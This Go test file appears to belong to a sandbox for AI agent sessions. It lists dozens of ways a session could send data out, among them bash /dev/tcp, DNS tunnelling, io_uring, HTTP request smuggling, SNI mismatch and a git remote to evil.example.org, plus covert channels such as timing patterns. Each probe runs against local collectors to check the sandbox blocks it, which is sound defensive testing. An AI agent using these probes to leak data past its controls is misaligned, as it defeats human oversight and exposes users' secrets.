package agent

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/nightporter/nightporter/internal/golden"
	"github.com/nightporter/nightporter/loop/ledger"
)

// way is one way in which a session could send out what it reads. Each is tried
// from a real session, which sends the way's number to a collector outside.
type way struct {
	name  string
	probe string // a line for the test program's "ways", with the names of a waysWorld
	// named are ways that a host which somebody named leaves open, whatever carries
	// them: why says so. They have no probe.
	why string
}

// ways are the ways out. A new one is added at the end: the page refers to numbers.
var ways = []way{
	{name: "TCP to an address", probe: "dial tcp COLLECTOR"},
	{name: "TCP over IPv6", probe: "dial tcp COLLECTOR6"},
	{name: "UDP", probe: "dial udp COLLECTOR"},
	{name: "a DNS query to a server of its own", probe: "dns COLLECTOR"},
	{name: "a DNS query over TCP", probe: "dial tcp COLLECTOR"},
	{name: "a name as carrier, through the machine's resolver", probe: "resolve"},
	{name: "bash's /dev/tcp", probe: "bash COLLECTOR"},
	{name: "data in the SYN (MSG_FASTOPEN)", probe: "fastopen COLLECTOR"},
	{name: "MPTCP", probe: "mptcp COLLECTOR"},
	{name: "ICMP", probe: "packets 2 2 1"},
	{name: "raw packets", probe: "packets 17 3 768"},
	{name: "vsock, to the host of a virtual machine", probe: "socket 40 1 0"},
	{name: "io_uring, whose sockets no filter sees", probe: "uring"},
	{name: "the kernel's keyrings", probe: "keyring"},
	{name: "an abstract socket", probe: "dial unix @ABSTRACT"},
	{name: "a socket in /tmp, such as X11's or tmux's", probe: "dial unix TMPSOCKET"},
	{name: "a socket elsewhere that everybody may write", probe: "dial unix OUTSOCKET"},
	{name: "the operator's socket as a relay", probe: "dial unix OPERATOR"},
	{name: "hat's socket as a relay", probe: "relay unix HAT"},
	{name: "an inherited descriptor", probe: "descriptors"},
	{name: "another process's network namespace", probe: "setns"},
	{name: "an interface or a route of its own", probe: "address"},
	{name: "a helper that an earlier session left", probe: "dial tcp HELPER"},
	{name: "an unknown host by CONNECT", probe: "proxy CONNECT~evil.example.org:443~HTTP/1.1|Host:~evil.example.org||MARK"},
	{name: "an unknown host by plain HTTP", probe: "proxy GET~http://evil.example.org/MARK~HTTP/1.1|Host:~evil.example.org||"},
	{name: "an address by CONNECT", probe: "proxy CONNECT~COLLECTOR~HTTP/1.1|Host:~COLLECTOR||MARK"},
	{name: "an address in decimal, octal or hex", probe: "proxy GET~http://2130706433:COLLECTORPORT/MARK~HTTP/1.1|Host:~2130706433:COLLECTORPORT||"},
	{name: "IPv6 that stands for an address of IPv4", probe: "proxy CONNECT~[::ffff:127.0.0.1]:COLLECTORPORT~HTTP/1.1|Host:~x||MARK"},
	{name: "the machine's loopback by name", probe: "proxy GET~http://localhost:COLLECTORPORT/MARK~HTTP/1.1|Host:~localhost:COLLECTORPORT||"},
	{name: "Host that is not the target", probe: "proxy GET~http://models.example.org:ALLOWEDPORT/~HTTP/1.1|Host:~MARK.example.org||"},
	{name: "a second request behind the first (smuggling)", probe: "proxy POST~http://models.example.org:ALLOWEDPORT/~HTTP/1.1|Host:~models.example.org:ALLOWEDPORT|Content-Length:~6|Transfer-Encoding:~chunked||0||GET~/MARK~HTTP/1.1|Host:~x||"},
	{name: "a SOCKS name with a zero byte", probe: "socks evil.example.org\\0.models.example.org"},
	{name: "TLS whose SNI is another host", probe: "sni models.example.org:TLSPORT evil.example.org"},
	{name: "a direct connection to an unknown name", probe: "direct evil.example.org"},
	{name: "a redirect to an unknown host", probe: "redirect"},
	{name: "a git remote", probe: "git"},
	{name: "publishing to a package registry that is only read", probe: "proxy PUT~http://registry.example.org:ALLOWEDPORT/MARK~HTTP/1.1|Host:~registry.example.org:ALLOWEDPORT|Content-Length:~9||MARK"},
	{name: "the environment in a request that is no TLS (the canary)", probe: "canary"},

	{name: "another site behind a named host (fronting inside TLS)", why: "TLS is not opened: what is said inside it is the named host's affair"},
	{name: "ECH behind a named outer name", why: "the inner name is encrypted for the named host"},
	{name: "a named host that stores what it is sent: a forge, a registry with its own token, the provider of the model with somebody else's key", why: "whoever may talk to a host may tell it what it reads"},
	{name: "what the session is to produce: files, commit messages, events, memory, the name of a branch", why: "people read it before it is merged; `push` says what is published before"},
	{name: "which named hosts it reaches, when and how often", why: "a pattern is a message, at some bits an hour"},
	{name: "package caches and memory, as a mailbox for other sessions", why: "caches are kept apart by trust (docs/spec 9.5); what sessions leave behind that read text by strangers is marked: the other sessions of a project read it as data, with a closed network"},
}

// waysHelper tries the ways that list names, one a line: the mark, the kind and its
// arguments. It prints what each was told; the collector judges. They are tried at once,
// because many wait for an answer that does not come, and in one process, because 38
// need longer to start than a way may take. What looks at the process itself goes first,
// and last what ends the session.
func waysHelper(list io.Reader) int {
	var before, together, after [][]string
	lines := bufio.NewScanner(list)
	for lines.Scan() {
		switch words := strings.Fields(os.ExpandEnv(lines.Text())); words[1] {
		case "descriptors":
			before = append(before, words)
		case "canary":
			after = append(after, words)
		default:
			together = append(together, words)
		}
	}
	try := func(words []string) {
		err := tryWay(words[0], words[1], words[2:])
		if err == nil {
			err = errors.New("no error")
		}
		fmt.Printf("%s %s: %v\n", words[0], words[1], err)
	}
	for _, words := range before {
		try(words)
	}
	var wg sync.WaitGroup
	for _, words := range together {
		wg.Go(func() {
			runtime.LockOSThread() // and never unlock: a way may change what belongs to its thread
			try(words)
		})
	}
	wg.Wait()
	for _, words := range after {
		try(words)
	}
	return 0
}

func tryWay(mark, kind string, args []string) error {
	send := func(c net.Conn, err error) error {
		if err != nil {
			return err
		}
		defer func() { _ = c.Close() }()
		if _, err := io.WriteString(c, mark+"\n"); err != nil {
			return err
		}
		_ = c.SetReadDeadline(time.Now().Add(time.Second))
		line, err := bufio.NewReader(c).ReadString('\n')
		fmt.Printf("%s %s: told %q\n", mark, kind, line)
		return err
	}
	talk := func(network, addr, text string) error {
		c, err := net.DialTimeout(network, addr, 3*time.Second)
		if err != nil {
			return err
		}
		defer func() { _ = c.Close() }()
		if _, err := io.WriteString(c, text); err != nil {
			return err
		}
		_ = c.SetReadDeadline(time.Now().Add(3 * time.Second))
		answer := make([]byte, 600)
		n, _ := c.Read(answer)
		fmt.Printf("%s %s: told %.150q\n", mark, kind, answer[:n])
		return nil
	}
	fromDNS := func(name string) []byte { return append([]byte{byte(len(name))}, name...) }
	switch kind {
	case "dial":
		return send(net.DialTimeout(args[0], args[1], 3*time.Second))
	case "dns":
		query := append([]byte{0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}, fromDNS(mark)...)
		return talk("udp", args[0], string(append(append(query, fromDNS("example")...), 0, 0, 16, 0, 1)))
	case "resolve":
		_, err := net.LookupTXT(mark + ".evil.example.org")
		return err
	case "bash":
		host, port, _ := net.SplitHostPort(args[0])
		return sh("bash", "-c", fmt.Sprintf("echo %s >/dev/tcp/%s/%s", mark, host, port))
	case "fastopen", "mptcp":
		return rawTCP(kind, args[0], mark)
	case "socket", "packets":
		var n [3]int
		for i := range n {
			n[i], _ = strconv.Atoi(args[i])
		}
		fd, err := unix.Socket(n[0], n[1], n[2])
		if err == nil {
			_ = unix.Close(fd)
			fmt.Println(mark + " REACHED")
		}
		return err
	case "uring":
		_, _, e := unix.Syscall(ioUring, 1, 0, 0)
		if e == unix.EFAULT { // the kernel looked at the arguments
			fmt.Println(mark + " REACHED")
		}
		return e
	case "keyring":
		_, err := unix.AddKey("user", "np-"+mark, []byte(mark), unix.KEY_SPEC_USER_KEYRING)
		if err == nil {
			fmt.Println(mark + " REACHED")
		}
		return err
	case "relay":
		return talk(args[0], args[1], "GET http://evil.example.org/"+mark+" HTTP/1.1\r\nHost: evil.example.org\r\n\r\n")
	case "descriptors":
		entries, _ := os.ReadDir("/proc/self/fd")
		for _, e := range entries {
			to, _ := os.Readlink("/proc/self/fd/" + e.Name())
			if n, _ := strconv.Atoi(e.Name()); n > 2 && (strings.HasPrefix(to, "socket:") || strings.HasPrefix(to, "net:") || strings.HasPrefix(to, "mnt:")) {
				fmt.Println(mark+" REACHED", to)
			}
		}
		return nil
	case "setns":
		return enterOther(mark)
	case "address":
		err := raiseLoopback()
		if err == nil {
			fmt.Println(mark + " REACHED")
		}
		return err
	case "proxy":
		text := strings.NewReplacer("~", " ", "|", "\r\n", "MARK", mark).Replace(args[0])
		line, rest, _ := strings.Cut(text, "\r\n")
		addr, login := proxyOfSession()
		return talk("tcp", addr, line+"\r\n"+login+rest+"\r\n")
	case "socks":
		name := strings.ReplaceAll(args[0], `\0`, "\x00")
		return talk("tcp", socksOfSession(), "\x05\x01\x00\x05\x01\x00\x03"+string(rune(len(name)))+name+"\x01\xbb"+mark)
	case "sni":
		addr, login := proxyOfSession()
		c, err := net.DialTimeout("tcp", addr, 3*time.Second)
		if err != nil {
			return err
		}
		defer func() { _ = c.Close() }()
		_, _ = fmt.Fprintf(c, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n%[2]s\r\n", args[0], login)
		line, _ := bufio.NewReader(c).ReadString('\n')
		_ = c.SetDeadline(time.Now().Add(3 * time.Second))
		err = handshake(c, args[1], mark)
		fmt.Printf("%s %s: told %q, then %v\n", mark, kind, line, err)
		return err
	case "direct":
		return send(net.DialTimeout("tcp", args[0]+":443", 3*time.Second))
	case "redirect":
		_, err := probe("get", "http://models.example.org:"+args[0]+"/redirect?to=http://evil.example.org/"+mark)
		return err
	case "git":
		return sh("git", "ls-remote", "http://evil.example.org/"+mark)
	case "canary":
		_, err := probe("get", "http://models.example.org:"+args[0]+"/"+mark+"?"+os.Getenv(canaryVar))
		return err
	}
	return fmt.Errorf("no way %q", kind)
}

// proxyOfSession returns the address of the session's proxy, and the header with the
// password that it asks for.
func proxyOfSession() (addr, header string) {
	u, err := url.Parse(os.Getenv("HTTP_PROXY"))
	if err != nil || u.Host == "" {
		return "127.0.0.1:1", ""
	}
	if u.User != nil {
		header = "Proxy-Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(u.User.String())) + "\r\n"
	}
	return u.Host, header
}

// socksOfSession returns the address of the session's SOCKS proxy: ours, which no
// variable names, or that of a sandbox which names one.
func socksOfSession() string {
	u, err := url.Parse(os.Getenv("ALL_PROXY"))
	if err != nil || !strings.HasPrefix(u.Scheme, "socks") {
		return socksAddress
	}
	return u.Host
}

// waysWorld is what the ways lead to, and the record of what reached it.
type waysWorld struct {
	mu      sync.Mutex
	reached bytes.Buffer

	allowedPort, tlsPort string            // of the server models.example.org
	names                *strings.Replacer // of the words in capitals in the ways
}

func (w *waysWorld) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.reached.Write(p)
}

func (w *waysWorld) has(mark string) bool {
	w.mu.Lock()
	defer w.mu.Unlock()
	return bytes.Contains(w.reached.Bytes(), []byte(mark))
}

// collect records all that is sent to a listener, and answers each connection.
func (w *waysWorld) collect(t *testing.T, network, addr string) string {
	t.Helper()
	l, err := net.Listen(network, addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	if network == "unix" && !strings.HasPrefix(addr, "@") {
		if err := os.Chmod(addr, 0o777); err != nil {
			t.Fatal(err)
		}
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer func() { _ = c.Close() }()
				line, _ := bufio.NewReader(c).ReadString('\n')
				_, _ = io.WriteString(w, line)
				_, _ = io.WriteString(c, "got it\n")
			}()
		}
	}()
	return l.Addr().String()
}

// TestWays tries each way out from a session at each level, with a closed network
// where there is one, and holds the page of the documents against what came of it.
func TestWays(t *testing.T) {
	results := map[int][]string{}
	levels := []int{3, 2, 1}
	for _, level := range levels {
		t.Run(fmt.Sprintf("level%d", level), func(t *testing.T) { results[level] = tryWays(t, level) })
	}
	if len(results) < len(levels) || landlockABI() < abiScope {
		t.Skip("SKIPPED: the page is of a machine with all levels and a Landlock of version 6 or later")
	}
	var page strings.Builder
	page.WriteString("| # | way | level 3, closed | level 2, closed | level 1 |\n|---|---|---|---|---|\n")
	for i, w := range ways {
		cells := []string{}
		for _, level := range levels {
			if w.why != "" {
				cells = append(cells, "named")
				continue
			}
			cells = append(cells, results[level][i])
		}
		fmt.Fprintf(&page, "| %d | %s | %s |\n", i+1, w.name, strings.Join(cells, " | "))
	}
	page.WriteString("\n")
	for i, w := range ways {
		if w.why != "" {
			fmt.Fprintf(&page, "%d. %s: %s.\n", i+1, w.name, w.why)
		}
		for _, level := range []int{3, 2} {
			if w.why == "" && results[level][i] != "stopped" {
				t.Errorf("way %d, %s, is open at level %d", i+1, w.name, level)
			}
		}
	}
	comparePage(t, "<!-- ways: written by TestWays with -update -->\n", "<!-- end of ways -->\n", page.String())
}

// comparePage holds what docs/network.md says between two lines against what was
// measured, or writes it there with -update.
func comparePage(t *testing.T, begin, end, measured string) {
	t.Helper()
	path := filepath.Join("..", "..", "docs", "network.md")
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	head, rest, ok := strings.Cut(string(text), begin)
	table, tail, ok2 := strings.Cut(rest, end)
	if !ok || !ok2 {
		t.Fatalf("%s has no place for the table", path)
	}
	if *golden.Update {
		if err := os.WriteFile(path, []byte(head+begin+measured+end+tail), 0o644); err != nil {
			t.Fatal(err)
		}
	} else if table != measured {
		t.Errorf("%s says something else than what was measured (-update):\n%s", path, measured)
	}
}

// tryWays returns for each way "stopped" or "open".
func tryWays(t *testing.T, level int) []string {
	_, serve := serveHat(t)
	h := newFixture(t, level, serve)
	w := newWaysWorld(t, filepath.Join(h.state, "np.sock"), filepath.Join(h.out, "s"), h.leaveHelper())
	network := ledger.Network{}
	if level >= 2 {
		network = ledger.Network{Mode: ledger.NetworkNone,
			Hosts:    []string{"models.example.org:" + w.tlsPort + "=127.0.0.1", "models.example.org:" + w.allowedPort + "=127.0.0.1"},
			ReadOnly: []string{"registry.example.org:" + w.allowedPort + "=127.0.0.1"}}
	}
	skip := func(kind string) bool { // the network is open, and nothing is sent to the internet to show it
		return level < 2 && slices.Contains([]string{"resolve", "proxy", "socks", "sni", "direct", "redirect", "git", "canary", "packets"}, kind)
	}
	script, tried := w.script(h.program(), filepath.Join(h.work, "ways.txt"), skip)
	h.script(script)
	l := h.launch("r1-2")
	l.Network = network
	h.start(l)
	x := h.wait("r1-2")
	said, _ := os.ReadFile(filepath.Join(h.work, "ways.txt"))
	t.Logf("%s, exit %d %s\n%s", x.Reason, x.Code, x.Text, said)
	for i := range ways {
		if tried[i] && !strings.Contains(string(said), mark(i)) && !(x.Reason == ledger.ExitLeak && strings.HasPrefix(ways[i].probe, "canary")) {
			t.Errorf("way %d was not tried", i+1)
		}
	}
	return w.results(string(said), tried)
}

// newWaysWorld starts what the ways lead to. Two of them lead to Unix sockets that are
// made here, one to the address of a helper.
func newWaysWorld(t *testing.T, operator, outside, helper string) *waysWorld {
	t.Helper()
	w := &waysWorld{}
	site := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if to := r.URL.Query().Get("to"); to != "" { // the way's number belongs to the other host
			http.Redirect(rw, r, to, http.StatusFound)
			return
		}
		_, _ = fmt.Fprintf(w, "%s %s\n", r.Host, r.URL)
	})
	allowed, secure := httptest.NewServer(site), httptest.NewTLSServer(site)
	t.Cleanup(allowed.Close)
	t.Cleanup(secure.Close)
	_, w.tlsPort, _ = net.SplitHostPort(strings.TrimPrefix(secure.URL, "https://"))
	_, w.allowedPort, _ = net.SplitHostPort(strings.TrimPrefix(allowed.URL, "http://"))
	collector := w.collect(t, "tcp", "127.0.0.1:0")
	_, collectorPort, _ := net.SplitHostPort(collector)
	udp, err := net.ListenPacket("udp", collector)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = udp.Close() })
	go func() {
		buf := make([]byte, 1000)
		for {
			n, _, err := udp.ReadFrom(buf)
			if err != nil {
				return
			}
			_, _ = w.Write(buf[:n])
		}
	}()
	tmp, err := os.MkdirTemp("/tmp", "np-ways-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(tmp) })
	if err := os.Chmod(tmp, 0o755); err != nil {
		t.Fatal(err)
	}
	abstract := fmt.Sprintf("@np-ways-%d", time.Now().UnixNano())
	w.names = strings.NewReplacer(
		"COLLECTORPORT", collectorPort, "COLLECTOR6", w.collect(t, "tcp", "[::1]:0"), "COLLECTOR", collector, "ALLOWEDPORT", w.allowedPort, "TLSPORT", w.tlsPort,
		"@ABSTRACT", w.collect(t, "unix", abstract), "TMPSOCKET", w.collect(t, "unix", filepath.Join(tmp, "s")),
		"OUTSOCKET", w.collect(t, "unix", outside), "OPERATOR", w.collect(t, "unix", operator),
		"HELPER", helper, "HAT", "$HAT_SOCKET",
	)
	return w
}

// script returns a shell script that tries the ways but those whose kind skip reports,
// and which ways it tries. A session's output is cut, so that of the ways goes to the
// file said.
func (w *waysWorld) script(program, said string, skip func(kind string) bool) (script string, tried map[int]bool) {
	script, tried = fmt.Sprintf("cd \"$TMPDIR\"\n%s ways - >%s 2>&1 <<'END'\n", program, said), map[int]bool{}
	for i, way := range ways {
		kind, _, _ := strings.Cut(way.probe, " ")
		if way.probe == "" || skip(kind) {
			continue
		}
		tried[i] = true
		args := strings.Fields(w.names.Replace(way.probe))
		if args[0] == "redirect" || args[0] == "canary" {
			args = append(args, w.allowedPort)
		}
		script += mark(i) + " " + strings.Join(args, " ") + "\n"
	}
	return script + "END\n", tried
}

// results returns for each way "stopped" or "open"; one that was not tried is open.
func (w *waysWorld) results(said string, tried map[int]bool) []string {
	results := make([]string, len(ways))
	for i := range ways {
		switch {
		case !tried[i], w.has(mark(i)), strings.Contains(said, mark(i)+" REACHED"):
			results[i] = "open"
		default:
			results[i] = "stopped"
		}
	}
	return results
}

// mark is what the session of a way sends.
func mark(i int) string { return fmt.Sprintf("way%02dmark", i+1) }

// leaveHelper runs a session that leaves a server behind, and returns its address.
func (h *fixture) leaveHelper() string {
	h.t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		h.t.Fatal(err)
	}
	addr := l.Addr().String()
	_ = l.Close()
	h.run("r1-1", fmt.Sprintf("(setsid %s serve %s >/dev/null 2>&1 &) ; sleep 0.3", h.program(), addr))
	return addr
}

// serveHelper answers connections until it is ended.
func serveHelper(addr string) int {
	l, err := net.Listen("tcp", addr)
	if err != nil {
		return 1
	}
	for {
		c, err := l.Accept()
		if err != nil {
			return 1
		}
		fmt.Fprintln(c, "still here")
	}
}
